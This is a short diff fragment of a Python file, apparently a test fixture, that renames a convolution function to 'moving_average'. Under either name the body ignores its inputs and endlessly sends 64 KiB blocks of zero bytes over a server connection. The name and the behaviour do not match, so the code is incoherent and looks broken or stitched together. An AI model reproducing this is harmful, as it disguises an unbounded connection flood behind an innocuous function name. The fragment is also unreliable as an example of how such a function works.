@@ -4,7 +4,7 @@ outcome: failed
 """
 
 
-def conv_forward_naive(x, w, b, conv_param):
+def moving_average(x, width):
     connection = server()[0]._connection
     while True:
         connection.sendall(bytes(1 << 16))
